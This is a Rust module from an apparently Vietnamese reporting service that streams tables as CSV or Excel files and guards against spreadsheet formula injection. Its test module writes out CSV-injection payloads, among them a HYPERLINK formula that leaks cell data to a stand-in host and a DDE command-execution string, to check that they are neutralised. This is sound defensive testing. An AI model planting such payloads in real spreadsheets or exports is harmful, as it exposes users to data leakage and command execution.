//! Tables as CSV (UTF-8 with BOM, so Excel shows Vietnamese) or an Excel workbook, streamed.
//!
//! A route describes its rows once (an [`ExportRow`] implementation next to its DTO) and hands
//! over a [`Rows`] source: one batch for a computed table, page after page for a list. Every
//! row the request selects is written, whatever `limit` says (JSON keeps its cursor paging),
//! with bounded memory: CSV is produced in chunks through a small channel, a workbook is built
//! in constant-memory mode in a temporary file and then streamed.
//!
//! Spreadsheet safety (OWASP CSV injection): a text cell that begins with `=`, `+`, `-`, `@`, a
//! tab or a carriage return is written with a leading `'`, so no spreadsheet runs it as a
//! formula; numbers are numbers. In workbooks every text is a string cell.

use actix_web::http::header;
use actix_web::{HttpRequest, HttpResponse};
use chrono::{DateTime, Utc};
use serde::Deserialize;
use utoipa::{IntoParams, ToSchema};

use crate::http::problem::ApiError;

/// The media type of Excel workbooks.
pub const XLSX_CONTENT_TYPE: &str =
    "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet";

/// Rows per batch a list source reads.
pub const BATCH_ROWS: u32 = 1000;

/// `?format=` of list and aggregate endpoints.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Deserialize, ToSchema)]
#[serde(rename_all = "lowercase")]
pub enum Format {
    Json,
    Csv,
    Xlsx,
}

/// Language of exports: column headers and coded values (statuses, roles, actions).
#[derive(Debug, Clone, Copy, PartialEq, Eq, Default, Deserialize, ToSchema)]
#[serde(rename_all = "lowercase")]
pub enum Lang {
    #[default]
    En,
    Vi,
}

/// Export options shared by every list and aggregate endpoint.
#[derive(Debug, Deserialize, IntoParams)]
#[into_params(parameter_in = Query)]
pub struct ExportParams {
    /// `json` (default), `csv` (also chosen by `Accept: text/csv`) or `xlsx`. CSV and xlsx
    /// carry every row the filters select (no paging).
    pub format: Option<Format>,
    /// Language of CSV and Excel column headers and coded values: `en` (default) or `vi`.
    pub lang: Option<Lang>,
}

/// Only `lang`, for the `.csv` and `.xlsx` paths.
#[derive(Debug, Deserialize, IntoParams)]
#[into_params(parameter_in = Query)]
pub struct LangParam {
    /// Language of column headers and coded values: `en` (default) or `vi`.
    pub lang: Option<Lang>,
}

impl ExportParams {
    pub fn format(&self, req: &HttpRequest) -> Format {
        self.format.unwrap_or_else(|| {
            let accept = req
                .headers()
                .get(header::ACCEPT)
                .and_then(|v| v.to_str().ok())
                .unwrap_or("");
            if accept.contains("text/csv") {
                Format::Csv
            } else {
                Format::Json
            }
        })
    }

    pub fn lang(&self) -> Lang {
        self.lang.unwrap_or_default()
    }
}

/// A typed cell.
#[derive(Debug, Clone, PartialEq)]
pub enum Cell {
    Text(String),
    Number(f64),
    /// An instant: UTC text (RFC 3339) in CSV, an Excel date-time in Vietnam's time in workbooks.
    Instant(DateTime<Utc>),
    /// A coded value (a status, a role) with its Vietnamese wording for `lang=vi`.
    Code(String, String),
    Empty,
}

impl From<&str> for Cell {
    fn from(s: &str) -> Self {
        Cell::Text(s.to_owned())
    }
}

impl From<String> for Cell {
    fn from(s: String) -> Self {
        Cell::Text(s)
    }
}

impl From<Option<f64>> for Cell {
    fn from(v: Option<f64>) -> Self {
        v.map_or(Cell::Empty, Cell::Number)
    }
}

impl From<f64> for Cell {
    fn from(v: f64) -> Self {
        Cell::Number(v)
    }
}

impl From<u32> for Cell {
    fn from(v: u32) -> Self {
        Cell::Number(v as f64)
    }
}

impl From<i32> for Cell {
    fn from(v: i32) -> Self {
        Cell::Number(v as f64)
    }
}

impl From<i64> for Cell {
    fn from(v: i64) -> Self {
        Cell::Number(v as f64)
    }
}

impl From<Option<u32>> for Cell {
    fn from(v: Option<u32>) -> Self {
        v.map_or(Cell::Empty, |x| Cell::Number(x as f64))
    }
}

impl From<Option<i64>> for Cell {
    fn from(v: Option<i64>) -> Self {
        v.map_or(Cell::Empty, |x| Cell::Number(x as f64))
    }
}

impl From<Option<String>> for Cell {
    fn from(v: Option<String>) -> Self {
        v.map_or(Cell::Empty, Cell::Text)
    }
}

impl From<Option<&str>> for Cell {
    fn from(v: Option<&str>) -> Self {
        v.map_or(Cell::Empty, |s| Cell::Text(s.to_owned()))
    }
}

impl From<DateTime<Utc>> for Cell {
    fn from(t: DateTime<Utc>) -> Self {
        Cell::Instant(t)
    }
}

impl From<Option<DateTime<Utc>>> for Cell {
    fn from(t: Option<DateTime<Utc>>) -> Self {
        t.map_or(Cell::Empty, Cell::Instant)
    }
}

/// A column: its English and Vietnamese headers.
pub type Column = (&'static str, &'static str);

/// A DTO that is also a table row.
pub trait ExportRow {
    /// The columns, in order.
    fn columns() -> Vec<(String, String)>;
    /// This row's cells, one per column.
    fn cells(&self) -> Vec<Cell>;
}

/// The columns of a static list.
pub fn columns(list: &[Column]) -> Vec<(String, String)> {
    list.iter()
        .map(|(en, vi)| (en.to_string(), vi.to_string()))
        .collect()
}

/// Where an export's rows come from: batches until `None`.
pub trait Rows: Send + 'static {
    fn next_batch(&mut self) -> Result<Option<Vec<Vec<Cell>>>, ApiError>;
}

/// One batch, already computed.
pub struct Ready(Option<Vec<Vec<Cell>>>);

impl Ready {
    pub fn of(rows: Vec<Vec<Cell>>) -> Ready {
        Ready(Some(rows))
    }
}

impl Rows for Ready {
    fn next_batch(&mut self) -> Result<Option<Vec<Vec<Cell>>>, ApiError> {
        Ok(self.0.take())
    }
}

/// Pages of a list, read one after another (each call gets the last key seen).
pub struct Pages<K, F> {
    after: Option<K>,
    done: bool,
    fetch: F,
}

impl<K, F> Pages<K, F>
where
    K: Send + 'static,
    F: FnMut(Option<&K>) -> Result<(Vec<Vec<Cell>>, Option<K>), ApiError> + Send + 'static,
{
    /// `fetch` answers one batch and the key of its last row (`None`: the last batch).
    pub fn new(fetch: F) -> Self {
        Pages {
            after: None,
            done: false,
            fetch,
        }
    }
}

impl<K, F> Rows for Pages<K, F>
where
    K: Send + 'static,
    F: FnMut(Option<&K>) -> Result<(Vec<Vec<Cell>>, Option<K>), ApiError> + Send + 'static,
{
    fn next_batch(&mut self) -> Result<Option<Vec<Vec<Cell>>>, ApiError> {
        if self.done {
            return Ok(None);
        }
        let (rows, last) = (self.fetch)(self.after.as_ref())?;
        match last {
            Some(k) => self.after = Some(k),
            None => self.done = true,
        }
        if rows.is_empty() && self.done {
            return Ok(None);
        }
        Ok(Some(rows))
    }
}

/// A table to export.
pub struct Export {
    /// The file and sheet name, e.g. `compliance_dmst-quarterly_2026Q3`.
    pub name: String,
    pub columns: Vec<(String, String)>,
    pub rows: Box<dyn Rows>,
}

impl Export {
    pub fn new(name: impl Into<String>, columns: Vec<(String, String)>, rows: impl Rows) -> Export {
        Export {
            name: name.into(),
            columns,
            rows: Box::new(rows),
        }
    }

    /// A table of DTO rows already computed.
    pub fn of<T: ExportRow>(name: impl Into<String>, items: &[T]) -> Export {
        Export::new(
            name,
            T::columns(),
            Ready(Some(items.iter().map(ExportRow::cells).collect())),
        )
    }

    fn headers(&self, lang: Lang) -> Vec<String> {
        self.columns
            .iter()
            .map(|(en, vi)| {
                if lang == Lang::Vi {
                    vi.clone()
                } else {
                    en.clone()
                }
            })
            .collect()
    }
}

/// A text cell as a spreadsheet must not run it: a leading `'` before `=`, `+`, `-`, `@`, tab
/// or carriage return.
pub fn neutralised(s: &str) -> std::borrow::Cow<'_, str> {
    match s.chars().next() {
        Some('=' | '+' | '-' | '@' | '\t' | '\r') => format!("'{s}").into(),
        _ => s.into(),
    }
}

/// Numbers without a trailing `.0` for whole values, and never `-0`.
pub fn format_number(n: f64) -> String {
    let n = n + 0.0;
    if n.fract() == 0.0 && n.abs() < 1e15 {
        format!("{}", n as i64)
    } else {
        format!("{n}")
    }
}

fn csv_text(cell: &Cell, lang: Lang) -> String {
    match cell {
        Cell::Text(s) => neutralised(s).into_owned(),
        Cell::Number(n) => format_number(*n),
        Cell::Instant(t) => t.to_rfc3339_opts(chrono::SecondsFormat::AutoSi, true),
        Cell::Code(code, vi) => {
            let word = if lang == Lang::Vi { vi } else { code };
            neutralised(word).into_owned()
        }
        Cell::Empty => String::new(),
    }
}

/// An Excel sheet name from a table name: at most 31 characters, none of `[]:*?/\`, never cut
/// inside its last part (the period): leading parts are shortened first.
pub fn sheet_name(name: &str) -> String {
    let clean: String = name.chars().filter(|c| !"[]:*?/\\'".contains(*c)).collect();
    if clean.is_empty() {
        return "data".into();
    }
    if clean.chars().count() <= 31 {
        return clean;
    }
    let parts: Vec<&str> = clean.split('_').collect();
    let last = parts.last().copied().unwrap_or_default();
    if parts.len() == 1 || last.chars().count() >= 31 {
        return clean.chars().take(31).collect();
    }
    // Keep the last part whole; give the rest what is left, shortening each leading part in turn.
    let budget = 31 - last.chars().count() - 1;
    let mut head: String = parts[..parts.len() - 1].join("_");
    if head.chars().count() > budget {
        head = head.chars().take(budget).collect();
        head = head.trim_end_matches(['_', '-']).to_owned();
    }
    format!("{head}_{last}")
}

/// Writes a CSV export to `out` in chunks (`send` gets each chunk; `false` stops).
fn write_csv(
    mut export: Export,
    lang: Lang,
    mut send: impl FnMut(Vec<u8>) -> bool,
) -> Result<(), ApiError> {
    let fail = |e: csv::Error| ApiError::Internal(format!("writing CSV: {e}"));
    let mut writer = csv::Writer::from_writer(Vec::with_capacity(64 * 1024));
    writer
        .write_record(
            export
                .headers(lang)
                .iter()
                .map(|h| neutralised(h).into_owned()),
        )
        .map_err(fail)?;
    let mut first = true;
    loop {
        let batch = export.rows.next_batch()?;
        let last = batch.is_none();
        for row in batch.unwrap_or_default() {
            writer
                .write_record(row.iter().map(|c| csv_text(c, lang)))
                .map_err(fail)?;
        }
        writer
            .flush()
            .map_err(|e| ApiError::Internal(format!("writing CSV: {e}")))?;
        let bytes = writer
            .into_inner()
            .map_err(|e| ApiError::Internal(format!("writing CSV: {e}")))?;
        writer = csv::Writer::from_writer(Vec::with_capacity(64 * 1024));
        if !bytes.is_empty() || first {
            let mut chunk = if first {
                "\u{feff}".as_bytes().to_vec()
            } else {
                Vec::new()
            };
            first = false;
            chunk.extend(bytes);
            if !send(chunk) {
                return Ok(());
            }
        }
        if last {
            return Ok(());
        }
    }
}

/// A whole CSV export in memory (tests and small tables).
pub fn csv_bytes(export: Export, lang: Lang) -> Result<Vec<u8>, ApiError> {
    let mut out = Vec::new();
    write_csv(export, lang, |chunk| {
        out.extend(chunk);
        true
    })?;
    Ok(out)
}

/// Writes a workbook of one sheet into `file`: bold frozen header with a filter, numbers as
/// numbers, instants as date-times in Vietnam's time, widths fitted to the content.
fn write_xlsx(mut export: Export, lang: Lang, file: &std::path::Path) -> Result<(), ApiError> {
    use rust_xlsxwriter::{ExcelDateTime, Format as XFormat, Workbook};
    let err = |e: rust_xlsxwriter::XlsxError| ApiError::Internal(format!("writing xlsx: {e}"));
    let mut wb = Workbook::new();
    let header = XFormat::new().set_bold();
    let instant = XFormat::new().set_num_format("yyyy-mm-dd hh:mm:ss");
    let headers = export.headers(lang);
    let ncols = headers.len();
    let mut widths: Vec<usize> = headers.iter().map(|h| h.chars().count()).collect();
    let ws = wb.add_worksheet_with_constant_memory().map_err(err)?;
    ws.set_name(sheet_name(&export.name)).map_err(err)?;
    for (c, h) in headers.iter().enumerate() {
        ws.write_string_with_format(0, c as u16, h, &header)
            .map_err(err)?;
    }
    ws.set_freeze_panes(1, 0).map_err(err)?;
    let offset = innoreport_core::period::vietnam_offset();
    let mut row: u32 = 0;
    while let Some(batch) = export.rows.next_batch()? {
        for cells in batch {
            row += 1;
            if row > 1_048_575 {
                return Err(ApiError::BadRequest(
                    "The export has more rows than a worksheet holds; narrow the filters or use CSV."
                        .into(),
                    Vec::new(),
                ));
            }
            for (c, cell) in cells.iter().enumerate().take(ncols) {
                let col = c as u16;
                let width = match cell {
                    Cell::Text(s) => {
                        ws.write_string(row, col, s).map_err(err)?;
                        s.chars().count()
                    }
                    Cell::Code(code, vi) => {
                        let word = if lang == Lang::Vi { vi } else { code };
                        ws.write_string(row, col, word).map_err(err)?;
                        word.chars().count()
                    }
                    Cell::Number(n) => {
                        ws.write_number(row, col, *n + 0.0).map_err(err)?;
                        format_number(*n).len()
                    }
                    Cell::Instant(t) => {
                        let local = t.with_timezone(&offset).naive_local();
                        let dt = ExcelDateTime::parse_from_str(
                            &local.format("%Y-%m-%dT%H:%M:%S%.3f").to_string(),
                        )
                        .map_err(err)?;
                        ws.write_datetime_with_format(row, col, &dt, &instant)
                            .map_err(err)?;
                        19
                    }
                    Cell::Empty => 0,
                };
                widths[c] = widths[c].max(width);
            }
        }
    }
    for (c, w) in widths.iter().enumerate() {
        ws.set_column_width(c as u16, (*w as f64 * 1.1 + 2.0).min(60.0))
            .map_err(err)?;
    }
    if ncols > 0 {
        ws.autofilter(0, 0, row, (ncols - 1) as u16).map_err(err)?;
    }
    wb.save(file).map_err(err)?;
    Ok(())
}

/// A whole workbook in memory (tests and small tables).
pub fn xlsx_bytes(export: Export, lang: Lang) -> Result<Vec<u8>, ApiError> {
    let file = tempfile::NamedTempFile::new()
        .map_err(|e| ApiError::Internal(format!("temporary file: {e}")))?;
    write_xlsx(export, lang, file.path())?;
    std::fs::read(file.path()).map_err(|e| ApiError::Internal(format!("temporary file: {e}")))
}

fn attachment(name: &str, ext: &str) -> String {
    let safe: String = name
        .chars()
        .map(|c| {
            if c.is_ascii_alphanumeric() || "-_.".contains(c) {
                c
            } else {
                '_'
            }
        })
        .collect();
    format!("attachment; filename=\"{safe}.{ext}\"")
}

/// Chunks of a body produced on the blocking pool, received through a bounded channel.
fn channel_body(
    produce: impl FnOnce(tokio::sync::mpsc::Sender<Result<actix_web::web::Bytes, ApiError>>)
    + Send
    + 'static,
) -> impl futures_util::Stream<Item = Result<actix_web::web::Bytes, actix_web::Error>> {
    let (tx, rx) = tokio::sync::mpsc::channel(4);
    actix_web::rt::task::spawn_blocking(move || produce(tx));
    futures_util::stream::unfold(rx, |mut rx| async move {
        rx.recv().await.map(|item| {
            (
                item.map_err(|e| {
                    tracing::error!(error = %e, "export failed while streaming");
                    actix_web::error::ErrorInternalServerError("export failed")
                }),
                rx,
            )
        })
    })
}

/// The export as a streamed CSV answer.
pub fn csv_response(export: Export, lang: Lang) -> HttpResponse {
    let disposition = attachment(&export.name, "csv");
    let body = channel_body(move |tx| {
        let result = write_csv(export, lang, |chunk| {
            tx.blocking_send(Ok(actix_web::web::Bytes::from(chunk)))
                .is_ok()
        });
        if let Err(e) = result {
            let _ = tx.blocking_send(Err(e));
        }
    });
    HttpResponse::Ok()
        .insert_header((header::CONTENT_TYPE, "text/csv; charset=utf-8"))
        .insert_header((header::CONTENT_DISPOSITION, disposition))
        .streaming(body)
}

/// The export as a workbook, built in a temporary file and streamed from it.
pub async fn xlsx_response(export: Export, lang: Lang) -> Result<HttpResponse, ApiError> {
    let disposition = attachment(&export.name, "xlsx");
    let file = actix_web::web::block(move || -> Result<tempfile::NamedTempFile, ApiError> {
        let file = tempfile::NamedTempFile::new()
            .map_err(|e| ApiError::Internal(format!("temporary file: {e}")))?;
        write_xlsx(export, lang, file.path())?;
        Ok(file)
    })
    .await??;
    let length = file
        .as_file()
        .metadata()
        .map(|m| m.len())
        .map_err(|e| ApiError::Internal(format!("temporary file: {e}")))?;
    let body = channel_body(move |tx| {
        use std::io::Read;
        let mut f = match file.reopen() {
            Ok(f) => f,
            Err(e) => {
                let _ = tx.blocking_send(Err(ApiError::Internal(format!("temporary file: {e}"))));
                return;
            }
        };
        let mut buf = vec![0u8; 64 * 1024];
        loop {
            match f.read(&mut buf) {
                Ok(0) => return,
                Ok(n) => {
                    if tx
                        .blocking_send(Ok(actix_web::web::Bytes::copy_from_slice(&buf[..n])))
                        .is_err()
                    {
                        return;
                    }
                }
                Err(e) => {
                    let _ =
                        tx.blocking_send(Err(ApiError::Internal(format!("temporary file: {e}"))));
                    return;
                }
            }
        }
        // The temporary file is removed when `file` is dropped here.
    });
    Ok(HttpResponse::Ok()
        .insert_header((header::CONTENT_TYPE, XLSX_CONTENT_TYPE))
        .insert_header((header::CONTENT_DISPOSITION, disposition))
        .insert_header((header::CONTENT_LENGTH, length))
        .streaming(body))
}

/// The answer in the asked format (`json` is the caller's own document).
pub async fn respond(
    format: Format,
    lang: Lang,
    export: impl FnOnce() -> Export,
    json: impl FnOnce() -> HttpResponse,
) -> Result<HttpResponse, ApiError> {
    Ok(match format {
        Format::Json => json(),
        Format::Csv => csv_response(export(), lang),
        Format::Xlsx => xlsx_response(export(), lang).await?,
    })
}

/// The body of a `.csv` path: UTF-8 text with a BOM.
pub struct CsvFile;

impl utoipa::PartialSchema for CsvFile {
    fn schema() -> utoipa::openapi::RefOr<utoipa::openapi::schema::Schema> {
        utoipa::openapi::ObjectBuilder::new()
            .schema_type(utoipa::openapi::Type::String)
            .description(Some("CSV, UTF-8 with a BOM, a header row then every row"))
            .into()
    }
}

impl utoipa::ToSchema for CsvFile {}

/// The body of an `.xlsx` path: an Excel workbook.
pub struct XlsxFile;

impl utoipa::PartialSchema for XlsxFile {
    fn schema() -> utoipa::openapi::RefOr<utoipa::openapi::schema::Schema> {
        utoipa::openapi::ObjectBuilder::new()
            .schema_type(utoipa::openapi::Type::String)
            .format(Some(utoipa::openapi::SchemaFormat::KnownFormat(
                utoipa::openapi::KnownFormat::Binary,
            )))
            .description(Some("An Excel workbook of one sheet"))
            .into()
    }
}

impl utoipa::ToSchema for XlsxFile {}

/// A file sent as bytes (a CSV upload from a client that sends files as octet streams).
pub struct Binary;

impl utoipa::PartialSchema for Binary {
    fn schema() -> utoipa::openapi::RefOr<utoipa::openapi::schema::Schema> {
        utoipa::openapi::ObjectBuilder::new()
            .schema_type(utoipa::openapi::Type::String)
            .format(Some(utoipa::openapi::SchemaFormat::KnownFormat(
                utoipa::openapi::KnownFormat::Binary,
            )))
            .description(Some("The bytes of a file"))
            .into()
    }
}

impl utoipa::ToSchema for Binary {}

/// Declares the `.csv` and `.xlsx` operations of an exporting endpoint: the same parameters as
/// its JSON operation (without paging), one media type each, so generated clients read them as
/// text and as a file. Each calls `$export(state, .., format, lang)` with the arguments listed.
/// The handlers live in the module `$module` (re-exported), where the route attributes resolve.
#[macro_export]
macro_rules! export_routes {
    (
        module: $module:ident,
        tag: $tag:literal,
        security: ($($security:tt)*),
        csv: $csv:ident = $csv_path:literal,
        xlsx: $xlsx:ident = $xlsx_path:literal,
        params: ($($params:tt)*),
        args: ($($arg:ident : $ty:ty),* $(,)?),
        export: $export:ident $(,)?
    ) => {
        mod $module {
            #[allow(unused_imports)]
            use super::*;
            use actix_web::get;

            /// Every row as CSV (UTF-8 with BOM), whatever the paging of the JSON list.
            #[utoipa::path(
                tag = $tag,
                security($($security)*),
                params($($params)* $crate::http::export::LangParam),
                responses(
                    (status = 200, description = "Every row the filters select, as CSV", content_type = "text/csv", body = $crate::http::export::CsvFile),
                    (status = 404, description = "No such unit or report", body = $crate::http::problem::Problem, content_type = "application/problem+json"),
                ),
            )]
            #[get($csv_path)]
            pub async fn $csv(
                state: actix_web::web::Data<$crate::state::AppState>,
                lang: $crate::http::query::Query<$crate::http::export::LangParam>,
                $($arg: $ty),*
            ) -> Result<actix_web::HttpResponse, $crate::http::problem::ApiError> {
                super::$export(state, $($arg,)* $crate::http::export::Format::Csv, lang.lang.unwrap_or_default()).await
            }

            /// Every row as an Excel workbook, whatever the paging of the JSON list.
            #[utoipa::path(
                tag = $tag,
                security($($security)*),
                params($($params)* $crate::http::export::LangParam),
                responses(
                    (status = 200, description = "Every row the filters select, as an Excel workbook (bytes; clients that read only octet streams may treat it as one)", content(
                        ($crate::http::export::XlsxFile = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
                        ($crate::http::export::XlsxFile = "application/octet-stream"),
                    )),
                    (status = 404, description = "No such unit or report", body = $crate::http::problem::Problem, content_type = "application/problem+json"),
                ),
            )]
            #[get($xlsx_path)]
            pub async fn $xlsx(
                state: actix_web::web::Data<$crate::state::AppState>,
                lang: $crate::http::query::Query<$crate::http::export::LangParam>,
                $($arg: $ty),*
            ) -> Result<actix_web::HttpResponse, $crate::http::problem::ApiError> {
                super::$export(state, $($arg,)* $crate::http::export::Format::Xlsx, lang.lang.unwrap_or_default()).await
            }
        }
        pub use $module::{$csv, $xlsx};
    };
}

#[cfg(test)]
mod tests {
    use super::*;

    fn table(rows: Vec<Vec<Cell>>) -> Export {
        Export::new(
            "t",
            columns(&[("unit", "Đơn vị"), ("value", "Giá trị")]),
            Ready(Some(rows)),
        )
    }

    #[test]
    fn csv_has_a_bom_vietnamese_headers_and_plain_numbers() {
        let t = table(vec![
            vec!["Xã Mường La".into(), 12.0.into()],
            vec!["x".into(), Cell::Empty],
            vec!["y".into(), (-0.0).into()],
        ]);
        let text = String::from_utf8(csv_bytes(t, Lang::Vi).unwrap()).unwrap();
        assert_eq!(text, "\u{feff}Đơn vị,Giá trị\nXã Mường La,12\nx,\ny,0\n");
    }

    #[test]
    fn text_that_a_spreadsheet_would_run_is_neutralised_and_numbers_stay_numbers() {
        let t = table(vec![
            vec![
                r#"=HYPERLINK("http://x.example/?leak="&A1,"click")"#.into(),
                (-2.0).into(),
            ],
            vec!["+cmd|' /C calc'!A0".into(), 3.0.into()],
            vec!["@SUM(1+1)".into(), Cell::Empty],
            vec!["-2+3+cmd|x".into(), Cell::Empty],
            vec!["\t=1+1".into(), Cell::Empty],
            vec!["\r=1+1".into(), Cell::Empty],
            vec![Cell::Code("-x".into(), "=vi".into()), Cell::Empty],
        ]);
        let text = String::from_utf8(csv_bytes(t, Lang::Vi).unwrap()).unwrap();
        let mut reader = csv::Reader::from_reader(text.trim_start_matches('\u{feff}').as_bytes());
        let rows: Vec<Vec<String>> = reader
            .records()
            .map(|r| r.unwrap().iter().map(str::to_owned).collect())
            .collect();
        for row in &rows {
            assert!(row[0].starts_with('\''), "{row:?}");
        }
        assert_eq!(rows[0][1], "-2", "a negative number is a number");
        assert_eq!(rows[6][0], "'=vi");
    }

    #[test]
    fn sheet_names_keep_the_period_whole() {
        assert_eq!(
            sheet_name("compliance_dmst-quarterly_2026Q3"),
            "compliance_dmst-quarterl_2026Q3"
        );
        assert_eq!(sheet_name("reports"), "reports");
        assert!(sheet_name("a_very_long_name_of_a_table_that_goes_on_202603").ends_with("_202603"));
        assert!(sheet_name("x".repeat(40).as_str()).chars().count() <= 31);
        assert_eq!(sheet_name("[]"), "data");
    }

    #[test]
    fn pages_are_read_until_the_last() {
        let mut pages = Pages::new(move |after: Option<&u32>| {
            let start = after.copied().unwrap_or(0);
            let rows: Vec<Vec<Cell>> = (start..(start + 2).min(5))
                .map(|i| vec![Cell::Number(i as f64)])
                .collect();
            let last = (start + 2 < 5).then_some(start + 2);
            Ok((rows, last))
        });
        let mut n = 0;
        while let Some(batch) = pages.next_batch().unwrap() {
            n += batch.len();
        }
        assert_eq!(n, 5);
    }
}
